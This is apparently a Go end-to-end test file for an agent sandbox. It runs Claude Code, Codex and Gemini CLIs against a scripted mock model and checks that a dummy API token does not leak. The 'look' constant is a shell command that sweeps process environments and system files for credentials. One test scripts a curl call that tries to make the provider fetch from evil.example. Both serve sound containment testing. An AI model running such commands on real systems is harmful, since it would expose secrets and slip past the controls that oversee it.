package e2e

import (
	"bytes"
	"cmp"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/bot-bottle/action/internal/modeltest"
	"github.com/bot-bottle/action/internal/testenv"
)

// The real agent CLIs, as tools/agents pins them, work in a bottle for a model
// that says what the test tells it to. The bottle's policy is the one of the
// CLI's page in docs/agents.

// agentCLI is what differs between the CLIs for a test.
type agentCLI struct {
	name   string
	wire   modeltest.Wire
	host   string
	token  string // variable that holds it
	field  string // header field in which the model's provider gets it
	value  string // of the token; empty: theToken
	model  string
	limits string // of the bottle; empty: the defaults
	routes string // of the bottle, in addition to the model's: items of a list, with their indent
	inside string // environment of the guest, as an inline mapping; empty: none
	// shell gives the call of the CLI's tool that runs a command.
	shell func(command string) modeltest.Call
	write modeltest.Call // writes "bee\n" to b.txt in the workspace
	// program is the CLI's command in the guest.
	program string
}

var (
	claudeCLI = agentCLI{
		name: "claude", wire: modeltest.Anthropic, host: "api.anthropic.com", token: "ANTHROPIC_API_KEY", field: "X-Api-Key",
		shell: func(command string) modeltest.Call {
			return modeltest.Call{Tool: "Bash", Input: map[string]any{"command": command, "description": "x", "timeout": 300_000}}
		},
		write:   modeltest.Call{Tool: "Write", Input: map[string]any{"file_path": "/workspace/b.txt", "content": "bee\n"}},
		program: "/opt/bot-bottle/agents/claude/claude --version",
	}
	codexCLI = agentCLI{
		name: "codex", wire: modeltest.OpenAI, host: "api.openai.com", token: "OPENAI_API_KEY", field: "Authorization",
		shell: func(command string) modeltest.Call {
			return modeltest.Call{Tool: "exec", Input: "text(JSON.stringify(await tools.exec_command({cmd: " + strconv.Quote(command) + ", yield_time_ms: 120000})))"}
		},
		write: modeltest.Call{
			Tool:  "exec",
			Input: `text(await tools.apply_patch("*** Begin Patch\n*** Add File: b.txt\n+bee\n*** End Patch\n"))`,
		},
		program: "/opt/bot-bottle/agents/codex/bin/codex --version",
	}
	geminiCLI = agentCLI{
		name: "gemini", wire: modeltest.Gemini, host: "generativelanguage.googleapis.com", token: "GEMINI_API_KEY", field: "X-Goog-Api-Key",
		model: "gemini-2.5-flash", // or each task begins with another model's choice of one
	}
)

// withSubscription is Claude Code with what `claude setup-token` prints in place of
// an API key.
func withSubscription() agentCLI {
	cli := claudeCLI
	cli.field, cli.value = "Authorization", "sk-ant-oat01-6bXq0vT3mWcY8sJd"
	return cli
}

func (cli agentCLI) credential() string { return cmp.Or(cli.value, theToken) }

// theToken is a credential that can be found again wherever it gets to.
const theToken = "sk-real-6bXq0vT3mWcY8sJd"

// installedAgents gives the folder with the pinned CLIs' programs.
func installedAgents(t testing.TB) string {
	t.Helper()
	cmd := exec.Command("sh", "../tools/agents.sh")
	var said bytes.Buffer
	cmd.Stderr = &said
	out, err := cmd.Output()
	if err != nil {
		testenv.Skip(t, fmt.Sprintf("installing the agent CLIs: %v\n%s", err, &said))
	}
	return filepath.Join(strings.TrimSpace(string(out)), "node_modules/.bin")
}

var yamlBlock = regexp.MustCompile("(?s)```yaml\n(.*?)```")

// leastPolicy is the first YAML of an agent's page.
func leastPolicy(t testing.TB, name string) string {
	t.Helper()
	page, err := os.ReadFile("../docs/agents/" + name + ".md")
	if err != nil {
		t.Fatal(err)
	}
	m := yamlBlock.FindSubmatch(page)
	if m == nil {
		t.Fatalf("the page of %s has no policy", name)
	}
	return string(m[1])
}

// agentJob is one run of a CLI.
type agentJob struct {
	result
	server *modeltest.Server
	report string
}

// employ runs the CLI on a workspace with one file, for a model with this script.
func (w *world) employ(cli agentCLI, script modeltest.Script) agentJob {
	w.t.Helper()
	programs := installedAgents(w.t)
	j := agentJob{server: modeltest.Start(w.t, cli.wire, script), report: filepath.Join(w.dir, "report")}
	ca := w.write("model-ca.pem", j.server.CAs)
	w.write("bottles/b.md", "---\n"+leastPolicy(w.t, cli.name)+"limits: {"+cli.limits+"}\nenv: {"+cli.inside+"}\n"+
		"egress:\n  routes:\n    - {host: "+cli.host+", connect_to: \""+j.server.Address+"\", addresses: [127.0.0.0/8], ca_file: "+ca+"}\n"+cli.routes+"---\n")
	w.write("agents/a.md", "---\nprovider: "+cli.name+"\n---\nYou are thorough.\n")
	w.env = append(w.env, cli.token+"="+cli.credential(), "PATH="+programs+":"+os.Getenv("PATH"))
	c := w.checkout(map[string]string{"a.txt": "one\n"})
	args := []string{
		"run", "--quiet", "--bottles-dir", filepath.Join(w.dir, "bottles"), "--bottle", "b", "--agents-dir", filepath.Join(w.dir, "agents"), "--agent", "a",
		"--workspace", c.dir, "--report-dir", j.report, "--prompt", "Do what has to be done.",
	}
	if cli.model != "" {
		args = append(args, "--model", cli.model)
	}
	j.result = w.runWithin(patience+time.Duration(startCount(w.t))*startPatience, args...)
	return j
}

// look writes down what an agent can see: the environment and command line of
// every process, and every file that is there only for it.
const look = `for p in /proc/[0-9]*; do tr '\000' '\n' <$p/environ; tr '\000' ' ' <$p/cmdline; echo; done >seen.txt 2>&1; ` +
	`find "$HOME" /tmp /var/tmp /run /etc /bottle/etc -type f 2>/dev/null | while read -r f; do tr -cd '\11\12\40-\176' <"$f"; done >>seen.txt 2>/dev/null; `

// starts counts how many of n starts of a command fail.
func starts(name, command string, n int) string {
	return fmt.Sprintf(`bad=0; for i in $(seq %d); do %s >/dev/null 2>&1 || bad=$((bad+1)); done; echo "%s: $bad of %d starts failed" >>starts.txt; `, n, command, name, n)
}

// startPatience is how long one start of each program may take, on a busy host.
const startPatience = 10 * time.Second

// startCount is how often each program is started: a few times, or as often as a
// gate says.
func startCount(t testing.TB) int {
	t.Helper()
	n := 5
	if s := os.Getenv("BOT_BOTTLE_TEST_STARTS"); s != "" {
		var err error
		if n, err = strconv.Atoi(s); err != nil {
			t.Fatal(err)
		}
	}
	return n
}

func TestClaudeCodeDoesWhatTheModelSays(t *testing.T) {
	eachCaller(t, func(t *testing.T, w *world) {
		if w.asUser {
			w.worksFor(claudeCLI)
		} else {
			w.worksFor(withSubscription())
		}
	})
}

func TestCodexDoesWhatTheModelSays(t *testing.T) {
	newWorld(t, true).worksFor(codexCLI)
}

// worksFor has the CLI run a command and write a file, and looks for the token
// everywhere.
func (w *world) worksFor(cli agentCLI) {
	w.t.Helper()
	n := startCount(w.t)
	command := look + starts(cli.name, cli.program, n) + starts("node", "node -e 0", n)
	j := w.employ(cli, modeltest.Script{Calls: []modeltest.Call{cli.shell(command), cli.write}, Final: "all of it is done"})
	if j.code != 0 || !strings.Contains(j.stdout, "all of it is done") {
		w.t.Fatalf("%s\n%s", j.result, w.decisions(j))
	}
	patch := w.read(j.report, "changes.patch")
	for _, want := range []string{"+bee\n", "b.txt", "placeholder", "seen.txt"} {
		if !strings.Contains(patch, want) {
			w.t.Errorf("the patch lacks %q", want)
		}
	}
	counts := regexp.MustCompile(`(?m)^\+(.* starts failed)$`).FindAllStringSubmatch(patch, -1)
	if len(counts) != 2 {
		w.t.Errorf("%d programs were counted, wanted the CLI and node", len(counts))
	}
	for _, m := range counts {
		w.t.Log(m[1])
		if !strings.Contains(m[1], ": 0 of ") {
			w.t.Errorf("under gVisor %s", m[1])
		}
	}
	w.tokenReachedOnly(cli, j)
	w.nothingLeft()
}

func TestGeminiStartsAndAnswers(t *testing.T) {
	w := newWorld(t, true)
	j := w.employ(geminiCLI, modeltest.Script{Final: "all of it is done"})
	if j.code != 0 || !strings.Contains(j.stdout, "all of it is done") {
		t.Fatalf("%s\n%s", j.result, w.decisions(j))
	}
	w.tokenReachedOnly(geminiCLI, j)
	w.nothingLeft()
}

func (w *world) read(elements ...string) string {
	w.t.Helper()
	b, err := os.ReadFile(filepath.Join(elements...))
	w.must(err)
	return string(b)
}

// decisions is the log of the job's doors, for whoever reads a failure.
func (w *world) decisions(j agentJob) string {
	b, _ := os.ReadFile(filepath.Join(j.report, "decisions.jsonl"))
	return string(b)
}

// tokenReachedOnly checks that the model got the token, and nothing else did:
// neither what was printed nor any file that the run left, the patch among them.
func (w *world) tokenReachedOnly(cli agentCLI, j agentJob) {
	w.t.Helper()
	if len(j.server.Requests()) == 0 {
		w.t.Error("the model was not asked")
	}
	for _, r := range j.server.Requests() {
		if got := strings.TrimPrefix(r.Header.Get(cli.field), "Bearer "); got != cli.credential() {
			w.t.Errorf("%s %s came with the credential %q", r.Method, r.Path, got)
		}
		if bytes.Contains(r.Body, []byte(cli.credential())) {
			w.t.Errorf("%s %s has the token in its body", r.Method, r.Path)
		}
	}
	if strings.Contains(j.stdout+j.stderr, cli.credential()) {
		w.t.Error("the token was printed")
	}
	w.must(filepath.WalkDir(w.dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(path)
		if bytes.Contains(b, []byte(cli.credential())) {
			w.t.Errorf("the token is in %s", path)
		}
		return err
	}))
}

func TestAnAgentCannotAskTheModelToFetch(t *testing.T) {
	w := newWorld(t, true)
	attack := `curl -sS -o /dev/null -w '%{http_code}' -H 'Content-Type: application/json' -d '{"model":"m","mcp_servers":[{"type":"url","url":"https://evil.example"}]}' https://api.anthropic.com/v1/messages >status.txt; ` +
		`curl -sS https://api.anthropic.com/v1/files >>status.txt`
	j := w.employ(claudeCLI, modeltest.Script{Calls: []modeltest.Call{claudeCLI.shell(attack)}, Final: "tried"})
	if j.code != 0 {
		t.Fatal(j.result)
	}
	if log := w.decisions(j); !strings.Contains(log, `"rule":"model-feature"`) || !strings.Contains(log, `mcp_servers`) {
		t.Errorf("the log has no refusal: %s", log)
	}
	if patch := w.read(j.report, "changes.patch"); !strings.Contains(patch, "+403") {
		t.Errorf("the agent was not refused: %s", patch)
	}
	for _, r := range j.server.Requests() {
		if bytes.Contains(r.Body, []byte(`evil.example"}]}`)) && !bytes.Contains(r.Body, []byte(`"messages"`)) || strings.Contains(r.Path, "files") {
			t.Errorf("the provider got %s %s: %s", r.Method, r.Path, r.Body)
		}
	}
}

func TestAMissingAgentCLIIsToldWithHowToInstallIt(t *testing.T) {
	w := newWorld(t, true)
	w.write("bottles/b.md", "---\n"+leastPolicy(t, "codex")+"---\n")
	w.env = append(w.env, "OPENAI_API_KEY="+theToken)
	r := w.run("run", "--bottles-dir", filepath.Join(w.dir, "bottles"), "--bottle", "b", "--prompt", "x")
	if r.code != 3 || !strings.Contains(r.stderr, "hint: install it on this host: npm install -g @openai/codex") {
		t.Error(r)
	}
	w.nothingLeft()
}
